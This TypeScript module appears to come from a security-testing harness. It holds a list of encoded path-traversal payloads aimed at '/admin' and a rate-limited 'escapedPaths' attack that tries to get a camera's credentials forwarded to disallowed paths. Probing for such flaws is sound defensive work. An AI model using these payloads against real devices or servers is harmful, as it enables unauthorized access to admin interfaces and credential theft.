import { type Attack, nth, perSecond } from './attack.ts';
import { ask, imageTarget } from './requests.ts';

const PER_SECOND = 4;

/** Paths under `/live/` that some servers take for `/admin`. */
const PATHS = [
  '..%2fadmin',
  '..%2Fadmin',
  '..;/admin',
  '..;a=b/admin',
  '..%5cadmin',
  '.%2e%2fadmin',
  '%2e%2e%2fadmin',
  '%2e%2e/admin',
  '../admin',
  '..%252fadmin',
  '%252e%252e%252fadmin',
  '..%00/admin',
  '..%c0%afadmin',
  'x/..;/..;/admin',
  'x%2f..%2f..%2fadmin',
  '.;/..;/admin',
];

/** Tries to get a camera's credentials sent to paths that its source does not allow. */
export const escapedPaths: Attack = ({ apis, camera }, count) => {
  perSecond(PER_SECOND, (turn) =>
    ask(nth(apis, turn), imageTarget(`${camera}/live/${nth(PATHS, turn)}`), count),
  );
};
